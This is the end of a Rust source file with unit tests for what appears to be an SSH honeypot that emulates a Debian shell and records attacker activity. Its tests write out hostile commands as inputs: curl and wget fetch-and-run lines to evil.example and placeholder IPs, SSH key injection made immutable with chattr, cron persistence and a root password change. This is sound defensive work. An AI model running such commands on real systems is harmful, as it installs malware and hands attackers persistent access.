         \x20 Model name:            {model}\n\
         \x20   CPU family:          6\n\
         \x20   Model:               {model_no}\n\
         \x20   Thread(s) per core:  1\n\
         \x20   Core(s) per socket:  {cpus}\n\
         \x20   Socket(s):           1\n\
         Virtualization features:\n\
         \x20 Hypervisor vendor:     KVM\n\
         \x20 Virtualization type:   full\n",
        cpus = p.cpus,
        last = p.cpus - 1,
        vendor = p.cpu_vendor,
        model = p.cpu_model,
        model_no = p.cpu_model_no,
    )
}

/// The shared attack-session fixtures: `../shared/fixtures/attack-sessions` beside the crate,
/// else `/work/shared/fixtures/attack-sessions`; `None` when neither exists.
#[cfg(test)]
pub(crate) fn fixture_dir() -> Option<std::path::PathBuf> {
    [
        concat!(
            env!("CARGO_MANIFEST_DIR"),
            "/../shared/fixtures/attack-sessions"
        ),
        "/work/shared/fixtures/attack-sessions",
    ]
    .into_iter()
    .map(std::path::PathBuf::from)
    .find(|p| p.is_dir())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn shell() -> Shell {
        let t = SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1_795_248_000);
        Shell::new(HostProfile::from_seed(7), "root", t)
    }

    #[test]
    fn echo_e_hex_escapes_print_ok() {
        assert_eq!(shell().run(r#"echo -e "\x6F\x6B""#).out, "ok\n");
        assert_eq!(shell().run(r"echo -n hi").out, "hi");
        assert_eq!(shell().run(r"echo 'a  b' c").out, "a  b c\n");
    }

    #[test]
    fn operators_follow_exit_status() {
        let mut sh = shell();
        assert_eq!(sh.run("false && echo no || echo yes").out, "yes\n");
        assert_eq!(sh.run("true && echo a; echo b").out, "a\nb\n");
        let o = sh.run("nosuchcmd || echo fallback");
        assert_eq!(o.err, "-bash: nosuchcmd: command not found\n");
        assert_eq!(o.out, "fallback\n");
        assert_eq!(o.not_found, vec!["nosuchcmd".to_owned()]);
    }

    #[test]
    fn pipes_and_redirects() {
        let mut sh = shell();
        let cpus = sh.run("cat /proc/cpuinfo | grep name | wc -l").out;
        assert_eq!(cpus.trim(), sh.run("nproc").out.trim());
        assert_eq!(sh.run("echo hi > /dev/null").out, "");
        assert_eq!(sh.run("cat /nope 2>/dev/null").err, "");
        let model =
            sh.run("cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'");
        assert!(!model.out.trim().is_empty(), "{model:?}");
    }

    #[test]
    fn uname_is_consistent_with_hostname_and_proc_version() {
        let mut sh = shell();
        let a = sh.run("uname -a").out;
        let host = sh.run("hostname").out;
        assert!(a.contains(host.trim()));
        assert!(a.contains(sh.run("uname -r").out.trim()));
        assert_eq!(sh.run("uname -m").out, "x86_64\n");
        assert_eq!(sh.run("uname").out, "Linux\n");
        assert!(
            sh.run("cat /proc/version")
                .out
                .contains(sh.run("uname -r").out.trim())
        );
    }

    #[test]
    fn free_matches_meminfo() {
        let mut sh = shell();
        let mem = sh
            .run("cat /proc/meminfo | grep MemTotal | awk '{print $2}'")
            .out;
        let free = sh.run("free -m | grep Mem | awk '{print $2}'").out;
        let kb: u64 = mem.trim().parse().unwrap();
        let mb: u64 = free.trim().parse().unwrap();
        assert_eq!(kb / 1024, mb);
    }

    #[test]
    fn command_substitution_and_cd() {
        let mut sh = shell();
        assert!(sh.run("ls -lh $(which ls)").out.contains("/usr/bin/ls"));
        sh.run("cd /tmp || cd /");
        assert_eq!(sh.run("pwd").out, "/tmp\n");
        assert!(sh.prompt().ends_with(":/tmp# "));
        sh.run("cd ~");
        assert!(sh.prompt().ends_with(":~# "));
    }

    #[test]
    fn time_comes_from_the_caller() {
        let mut sh = shell();
        assert!(sh.run("uptime").out.starts_with(" 08:00:00 up "));
        sh.set_now(SystemTime::UNIX_EPOCH + std::time::Duration::from_secs(1_795_248_000 + 61));
        assert!(sh.run("w").out.starts_with(" 08:01:01 up "));
    }

    #[test]
    fn exit_ends_the_shell() {
        let o = shell().run("echo a; exit; echo b");
        assert!(o.exit);
        assert_eq!(o.out, "a\n");
    }

    #[test]
    fn hostile_input_is_bounded() {
        let mut sh = shell();
        let long = "a ".repeat(100_000);
        let o = sh.run(&long);
        assert!(o.err.len() < 200);
        let nested = "$(".repeat(5000) + &")".repeat(5000);
        let _ = sh.run(&nested);
        let quotes = "'\"".repeat(10_000);
        let _ = sh.run(&quotes);
        let big = sh.run(&"cat /proc/cpuinfo;".repeat(1000));
        assert!(big.out.len() <= MAX_OUTPUT);
        let _ = sh.run("echo -e '\\x' '\\0' '\\' \\");
        let _ = sh.run("awk '{print $0,$99999999999999999999}'");
        let _ = sh.run("cut -f0 -d");
        let _ = sh.run("2>&1 >> < | || && ; & `");
    }

    /// Every line attackers really typed (shared fixtures) parses and answers.
    #[test]
    fn every_fixture_line_runs() {
        let Some(dir) = fixture_dir() else {
            eprintln!("SKIP: attack-session fixtures not present");
            return;
        };
        let Ok(entries) = std::fs::read_dir(&dir) else {
            eprintln!("SKIP: {} not readable", dir.display());
            return;
        };
        let mut n = 0;
        for e in entries.flatten() {
            let path = e.path();
            if path.extension().and_then(|x| x.to_str()) != Some("txt") {
                continue;
            }
            let text = std::fs::read_to_string(&path).unwrap();
            let mut sh = shell();
            let mut visible = 0;
            for line in text
                .lines()
                .filter(|l| !l.trim().is_empty() && !l.starts_with('#'))
            {
                let o = sh.run(line);
                n += 1;
                // `lockr` (Outlaw's renamed chattr) is not on a clean Debian host.
                assert!(
                    o.not_found.iter().all(|c| c == "lockr"),
                    "{line}: {:?}",
                    o.err
                );
                // Silent persistence steps (chmod, chattr, ...) print nothing, as in bash; the
                // attacker still sees the next prompt.
                if !o.out.is_empty() || !o.err.is_empty() {
                    visible += 1;
                }
            }
            assert!(visible > 0, "{} printed nothing at all", path.display());
        }
        assert!(n >= 20, "only {n} fixture lines found");
        // As in bash, the stray `2` is a file name and stdout goes to /dev/null.
        let o = shell().run("cat /proc/uptime 2 > /dev/null | cut -d. -f1");
        assert_eq!(o.err, "cat: 2: No such file or directory\n");
    }

    #[test]
    fn writes_are_seen_by_later_commands() {
        let mut sh = shell();
        assert_eq!(
            sh.run("echo a > /tmp/f; echo b >> /tmp/f; cat /tmp/f").out,
            "a\nb\n"
        );
        sh.run("mkdir -p /tmp/x/y && cd /tmp/x/y && touch z");
        assert_eq!(sh.run("pwd").out, "/tmp/x/y\n");
        assert_eq!(sh.run("ls").out, "z\n");
        assert!(
            sh.run("ls -la /tmp/x")
                .out
                .contains("drwxr-xr-x 2 root root  4096")
        );
        let o = sh.run("cd /nope");
        assert_eq!(o.err, "-bash: cd: /nope: No such file or directory\n");
        sh.run("cp /tmp/f /tmp/g; mv /tmp/g /tmp/x/h");
        assert_eq!(sh.run("cat /tmp/x/h").out, "a\nb\n");
        assert_eq!(
            sh.run("cat /tmp/g").err,
            "cat: /tmp/g: No such file or directory\n"
        );
        sh.run("rm -rf /tmp/x");
        assert!(sh.run("ls /tmp/x").err.contains("No such file"));
        assert_eq!(
            sh.run("echo $HOME ~ \"$USER\" '$USER'").out,
            "/root /root root $USER\n"
        );
        sh.run("export FOO=bar");
        assert_eq!(sh.run("echo ${FOO}x").out, "barx\n");
        sh.run("cd /tmp; touch a1 a2 b1");
        assert_eq!(sh.run("echo a*").out, "a1 a2\n");
        sh.run("rm -rf *");
        assert_eq!(sh.run("ls /tmp").out, "");
        assert!(sh.fs().get("/tmp").is_some());
    }

    #[test]
    fn key_injection_and_immutable_files() {
        let mut sh = shell();
        sh.run("cd ~ && rm -rf .ssh && mkdir .ssh && echo \"ssh-rsa AAAA mdrfckr\">>.ssh/authorized_keys && chmod -R go= ~/.ssh && cd ~");
        assert_eq!(
            sh.run("cat ~/.ssh/authorized_keys").out,
            "ssh-rsa AAAA mdrfckr\n"
        );
        assert!(sh.run("ls -la .ssh").out.contains("-rw------- 1 root root"));
        sh.run("chattr +i .ssh/authorized_keys");
        let o = sh.run("echo x >> .ssh/authorized_keys");
        assert_eq!(
            o.err,
            "-bash: .ssh/authorized_keys: Operation not permitted\n"
        );
        assert_eq!(o.status, 1);
        let o = sh.run("rm -rf .ssh");
        assert_eq!(
            o.err,
            "rm: cannot remove '.ssh/authorized_keys': Operation not permitted\n"
        );
        assert!(
            sh.run("lsattr .ssh/authorized_keys")
                .out
                .starts_with("----i---")
        );
        sh.run("chattr -ia .ssh/authorized_keys; rm -rf .ssh");
        assert!(sh.fs().get("/root/.ssh").is_none());
        // Each session has its own view.
        assert!(shell().fs().get("/root/.ssh").is_some());
    }

    #[test]
    fn a_full_disk_says_so() {
        let mut sh = shell();
        sh.run("echo 0123456789abcdef > /tmp/a");
        for _ in 0..12 {
            // Doubles the file each time, up to one command's output cap (64 KiB).
            let o = sh.run("cat /tmp/a /tmp/a > /tmp/b; cat /tmp/b > /tmp/a");
            assert_eq!(o.status, 0, "{o:?}");
        }
        let mut last = Output::default();
        for i in 0..40 {
            last = sh.run(&format!("cat /tmp/a > /tmp/r{i}"));
            if last.status != 0 {
                break;
            }
        }
        assert_eq!(
            last.err,
            "-bash: cat: write error: No space left on device\n"
        );
        let o = sh.run("cp /tmp/a /tmp/c");
        assert_eq!(
            o.err,
            "cp: error writing '/tmp/c': No space left on device\n"
        );
        assert!(sh.fs().used_bytes() <= sh.fs().limit_bytes());
        sh.run("rm /tmp/r*");
        assert_eq!(
            sh.run("cp /tmp/a /tmp/c").status,
            0,
            "removing files frees space"
        );
        let mut sh = shell();
        let o = sh.run(&"mkdir -p /tmp/d/$RANDOM; ".repeat(10));
        assert_eq!(o.status, 0);
        for i in 0..50 {
            let line: String = (0..100).map(|j| format!("touch /tmp/n{i}_{j};")).collect();
            last = sh.run(&line);
        }
        assert!(last.err.contains("No space left on device"), "{last:?}");
        assert!(sh.fs().node_count() <= fs::MAX_NODES);
    }

    #[test]
    fn downloads_are_recorded_not_fetched() {
        let mut sh = shell();
        sh.run("cd /tmp");
        let o = sh.run("wget http://198.51.100.23/bins.sh");
        assert_eq!(
            o.downloads,
            vec![Download {
                url: "http://198.51.100.23/bins.sh".into(),
                outfile: Some("/tmp/bins.sh".into()),
                tool: "wget"
            }]
        );
        assert!(
            o.err
                .contains("Connecting to 198.51.100.23:80... failed: Connection refused.")
        );
        assert_eq!(o.status, 4);
        assert!(
            sh.fs().get("/tmp/bins.sh").is_none(),
            "a failed fetch leaves no file"
        );
        let o = sh.run("wget -q evil.example/x -O /tmp/y");
        assert_eq!(o.downloads[0].url, "http://evil.example/x");
        assert_eq!(o.downloads[0].outfile.as_deref(), Some("/tmp/y"));
        assert_eq!(o.err, "");
        let o = sh.run("wget http://evil.example:8080/a");
        assert!(
            o.err
                .contains("unable to resolve host address ‘evil.example’")
        );
        let o =
            sh.run("curl -s http://198.51.100.23/x86_64 -o /tmp/.x && chmod +x /tmp/.x && /tmp/.x");
        assert_eq!(o.downloads.len(), 1);
        assert_eq!(o.downloads[0].tool, "curl");
        assert_eq!(o.downloads[0].outfile.as_deref(), Some("/tmp/.x"));
        assert_eq!((o.status, o.err.as_str()), (7, ""));
        let o = sh.run("curl http://evil.example/i.sh | sh");
        assert_eq!(o.err, "curl: (6) Could not resolve host: evil.example\n");
        let o = sh.run("tftp 198.51.100.23 -c get tftp1.sh; tftp -r tftp2.sh -g 198.51.100.23");
        let urls: Vec<&str> = o.downloads.iter().map(|d| d.url.as_str()).collect();
        assert_eq!(
            urls,
            [
                "tftp://198.51.100.23/tftp1.sh",
                "tftp://198.51.100.23/tftp2.sh"
            ]
        );
        let o = sh.run("busybox wget http://198.51.100.9/m; busybox tftp -g -r t 198.51.100.9; busybox ftpget 198.51.100.9 l r");
        let tools: Vec<&str> = o.downloads.iter().map(|d| d.tool).collect();
        assert_eq!(tools, ["busybox wget", "busybox tftp", "busybox ftpget"]);
        assert!(
            o.err
                .contains("wget: can't connect to remote host (198.51.100.9): Connection refused")
        );
        let o = sh.run("ftpget 198.51.100.9 l r");
        assert_eq!(o.downloads[0].url, "ftp://198.51.100.9/r");
        assert_eq!(o.status, 127);
        assert!(o.stages.contains(stage::Stage::Download));
    }

    #[test]
    fn running_files() {
        let mut sh = shell();
        sh.run("cd /tmp");
        let o = sh.run("./x");
        assert_eq!(
            (o.err.as_str(), o.status),
            ("-bash: ./x: No such file or directory\n", 127)
        );
        sh.run("echo 'echo hi from x; uname' > x");
        assert_eq!(sh.run("./x").err, "-bash: ./x: Permission denied\n");
        sh.run("chmod 755 x");
        let o = sh.run("./x");
        assert_eq!(o.out, "hi from x\nLinux\n");
        assert!(o.stages.contains(stage::Stage::Fingerprint));
        assert_eq!(sh.run("sh x").out, "hi from x\nLinux\n");
        sh.run("echo -e '\\x7fELF\\x02' > e; chmod +x e");
        assert_eq!(
            sh.run("./e").err,
            "-bash: ./e: cannot execute binary file: Exec format error\n"
        );
        assert_eq!(
            sh.run("sh bins.sh").err,
            "sh: 0: cannot open bins.sh: No such file\n"
        );
        assert_eq!(sh.run("/bin/uname -m").out, "x86_64\n");
        // A script that runs itself stops at the nesting bound.
        sh.run("echo 'sh y; echo deep' > y");
        let o = sh.run("sh y");
        assert_eq!(o.out.matches("deep").count(), MAX_NEST);
        assert_eq!(sh.run("sh -c 'nope'").err, "sh: 1: nope: not found\n");
        assert_eq!(sh.run("bash -c 'exit 3'; echo $?").out, "3\n");
        assert_eq!(sh.run("echo uname | sh").out, "Linux\n");
    }

    #[test]
    fn busybox_cron_and_passwords() {
        let mut sh = shell();
        let o = sh.run("busybox");
        assert!(o.out.starts_with("BusyBox v1.35.0"));
        let o = sh.run("/bin/busybox ECCHI");
        assert_eq!(
            (o.err.as_str(), o.status),
            ("ECCHI: applet not found\n", 127)
        );
        assert_eq!(sh.run("busybox echo ok").out, "ok\n");
        assert_eq!(sh.run("crontab -l").err, "no crontab for root\n");
        sh.run("echo '* * * * * /tmp/.x' > /tmp/c; crontab /tmp/c");
        assert_eq!(sh.run("crontab -l").out, "* * * * * /tmp/.x\n");
        let o = sh.run("(crontab -l; echo '@reboot /tmp/.y') | crontab -");
        assert!(o.stages.contains(stage::Stage::Persistence));
        sh.run("crontab -r");
        assert_eq!(sh.run("crontab -l").status, 1);
        let o = sh.run("echo \"root:C6jggp4LQsTT\"|chpasswd|bash");
        assert_eq!((o.out.as_str(), o.err.as_str(), o.status), ("", "", 0));
        assert_eq!(
            sh.password_changes(),
            [("root".to_owned(), "C6jggp4LQsTT".to_owned())]
        );
        assert!(
            sh.run("echo 'nobodyx:p' | chpasswd")
                .err
                .contains("password not changed")
        );
        let o = sh.run("echo -e 'pw1\\npw1' | passwd");
        assert!(o.out.ends_with("password updated successfully\n"));
        assert_eq!(sh.password_changes().len(), 2);
    }

    #[test]
    fn unknown_commands_answer_as_bash() {
        let o = shell().run("foo bar");
        assert_eq!(o.err, "-bash: foo: command not found\n");
        assert_eq!(o.status, 127);
        assert_eq!(o.not_found, ["foo"]);
        assert_eq!(
            shell().run("lockr -ia .ssh").err,
            "-bash: lockr: command not found\n"
        );
    }

    /// The issue asks for at least 50 emulated commands: each listed one answers (none is
    /// `command not found`), with and without arguments.
    #[test]
    fn at_least_fifty_commands() {
        assert!(COMMANDS.len() >= 50, "{} commands", COMMANDS.len());
        for name in COMMANDS {
            for line in [name.to_string(), format!("{name} -x /tmp")] {
                let o = shell().run(&line);
                assert!(o.not_found.is_empty(), "{line}: {o:?}");
                assert!(!o.err.contains("command not found"), "{line}: {o:?}");
            }
        }
        for applet in BUSYBOX_APPLETS {
            let o = shell().run(&format!("busybox {applet}"));
            assert!(!o.err.contains("not found"), "busybox {applet}: {o:?}");
        }
    }

    #[test]
    fn more_commands_look_like_debian() {
        let mut sh = shell();
        assert!(sh.run("ps aux").out.contains("/usr/sbin/cron -f"));
        assert!(sh.run("top -bn1").out.starts_with("top - 08:00:00 up "));
        assert!(sh.run("ifconfig").out.contains("inet 10.0."));
        assert!(sh.run("ip route").out.starts_with("default via 10.0."));
        assert_eq!(sh.run("pkill -9 sleep").status, 1);
        assert_eq!(sh.run("pkill -9 secure.sh; echo $?").out, "1\n");
        assert_eq!(sh.run("date").out, "Sat Nov 21 08:00:00 UTC 2026\n");
        assert_eq!(sh.run("date +%%%Q").status, 0);
        assert!(sh.run("cat /proc/uptime | cut -d. -f1").out.trim().len() > 3);
        assert!(sh.run("cat /proc/mounts").out.contains("/dev/sda1 / ext4"));
        assert_eq!(
            sh.run("which ls chpasswd nosuch").out,
            "/usr/bin/ls\n/usr/sbin/chpasswd\n"
        );
        assert_eq!(sh.run("echo aGk= | base64 -d").out, "hi");
        assert_eq!(sh.run("echo hi | base64").out, "aGkK\n");
        // 57 bytes make exactly one 76-character line; 58 start a second, as GNU wraps.
        let o = sh.run(&format!("printf {} | base64", "a".repeat(57))).out;
        assert_eq!(o.lines().map(str::len).collect::<Vec<_>>(), [76]);
        assert!(o.ends_with("YWFh\n") && !o.ends_with("\n\n"), "{o:?}");
        let o = sh.run(&format!("printf {} | base64", "a".repeat(58))).out;
        assert_eq!(o.lines().map(str::len).collect::<Vec<_>>(), [76, 4]);
        assert!(sh.run("history").out.contains("echo hi | base64"));
        assert_eq!(sh.run("echo $?").out, "0\n");
        assert!(sh.run("tail -n 1 /etc/passwd").out.starts_with("sshd:"));
        assert_eq!(sh.run("rm -rf /").status, 1);
        assert!(
            sh.run("nohup ./nope")
                .err
                .contains("nohup: failed to run command")
        );
    }

    /// Each stage of a pipeline is cut at `MAX_OUTPUT`, so output that grows per stage
    /// (`base64 | base64 | ...`) stays bounded.
    #[test]
    fn growing_pipelines_are_bounded() {
        let mut sh = shell();
        let line = format!("cat /proc/cpuinfo{}", " | base64".repeat(100));
        let o = sh.run(&line);
        assert!(o.out.len() <= MAX_OUTPUT);
        // Removing a tree full of immutable entries stays cheap.
        sh.run("mkdir -p /tmp/i; cd /tmp/i");
        for i in 0..30 {
            let l: String = (0..100).map(|j| format!("touch f{i}_{j};")).collect();
            sh.run(&l);
        }
        sh.run("chattr -R +i /tmp/i");
        let t = std::time::Instant::now();
        let o = sh.run(&"rm -rf /tmp/i;".repeat(100));
        assert!(o.err.len() <= MAX_OUTPUT);
        assert!(t.elapsed() < std::time::Duration::from_secs(20));
    }

    #[test]
    fn stages_come_from_what_ran() {
        let mut sh = shell();
        assert!(
            sh.run("false && wget http://198.51.100.1/x")
                .stages
                .is_empty()
        );
        let s = sh.run("sh -c 'uname -a'").stages;
        assert_eq!(s.iter().collect::<Vec<_>>(), [stage::Stage::Fingerprint]);
        let s = sh.run("echo $(cat /proc/cpuinfo | grep -c name)").stages;
        assert!(s.contains(stage::Stage::Fingerprint) && s.contains(stage::Stage::Probe));
        let s = sh.run("echo k >> ~/.ssh/authorized_keys").stages;
        assert_eq!(s.iter().collect::<Vec<_>>(), [stage::Stage::Persistence]);
    }

    #[test]
    fn ssh_version_matches_the_banner_and_never_connects() {
        let mut sh = shell();
        let o = sh.run("ssh -V");
        assert!(
            o.err.starts_with("OpenSSH_9.2p1 Debian-2+deb12u3, OpenSSL"),
            "{o:?}"
        );
        assert_eq!(o.status, 0);
        let o = sh.run("ssh root@203.0.113.9");
        assert!(
            o.err.contains("connect to host 203.0.113.9 port 22"),
            "{o:?}"
        );
        assert_eq!(o.status, 255);
    }
}
